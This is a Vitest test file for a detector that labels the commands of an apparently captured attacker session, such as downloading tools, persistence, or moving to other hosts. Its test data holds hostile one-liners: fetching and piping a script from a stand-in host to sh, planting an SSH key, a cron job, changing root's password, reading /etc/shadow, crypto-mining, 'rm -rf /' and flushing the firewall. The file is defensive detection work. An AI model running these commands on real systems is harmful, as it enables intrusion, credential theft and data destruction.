import { describe, expect, it } from 'vitest';
import { DEEDS } from '../../../src/attacks/session/deeds.ts';
import { deedsIn } from '../../../src/attacks/session/deeds-in.ts';

const deedsOf = (...commands: string[]) => deedsIn({ commands, downloads: [], files: [] }).map(({ deed }) => deed.name);

describe('what the commands of a session do', () => {
  it.each([
    ['cd /tmp; wget http://192.0.2.9/a.sh -O- | sh', 'runs_what_it_loads'],
    ['curl -fsSL http://192.0.2.9/x -o /tmp/x', 'loads_tools'],
    ['chmod 777 bins && ./bins', 'runs_what_it_loads'],
    ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', 'adds_ssh_key'],
    ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'starts_with_the_system'],
    ['echo root:abc|chpasswd', 'changes_accounts'],
    ['unset HISTFILE; history -c', 'hides_its_tracks'],
    ['cat /etc/shadow', 'reads_password_hashes'],
    ['/bin/busybox ECCHI', 'probes_for_a_honeypot'],
    ['./xmrig -o stratum+tcp://pool.example:3333', 'mines_currency'],
    ['rm -rf /', 'destroys_data'],
    ['iptables -F', 'opens_firewall'],
    ['uname -a', 'learns_the_system'],
    ['ip addr', 'learns_the_network'],
    ['netstat -tulpn | grep LISTEN', 'learns_the_connections'],
    ['cd /tmp; sudo netstat -an', 'learns_the_connections'],
    ['ss -tlnp', 'learns_the_connections'],
    ['ssh root@10.0.0.5', 'moves_on'],
    ['cd /tmp; scp -r -q root@10.0.0.5:/etc .', 'moves_on'],
  ])('%s', (command, deed) => {
    expect(deedsOf(command)).toContain(deed);
  });

  it.each(['scp -f /tmp/p.sh', 'scp -r -pt /tmp', 'ssh -V'])('%s leads nowhere else', (command) => {
    expect(deedsOf(command)).not.toContain('moves_on');
  });

  it('says nothing grave of looking around', () => {
    const grave = new Set(DEEDS.filter(({ certainty }) => certainty > 0.5).map(({ name }) => name));
    expect(
      deedsOf('ls -la', 'crontab -l', 'rm -rf ./build', 'history', 'cat notes.txt').filter((each) => grave.has(each)),
    ).toEqual([]);
  });

  it('takes a file that was put there as a tool', () => {
    const [first] = deedsIn({ commands: [], downloads: [], files: ['/tmp/bot'] });
    expect(first?.deed.technique.id).toBe('T1105');
  });

  it('reads long hostile lines in bounded steps', () => {
    const hostile = [`wget ${'wget '.repeat(900)}`, `${'chmod 777 '.repeat(400)}`, `base64${' |'.repeat(2_000)}`];
    expect(deedsOf(...hostile)).toEqual([]);
  });
});
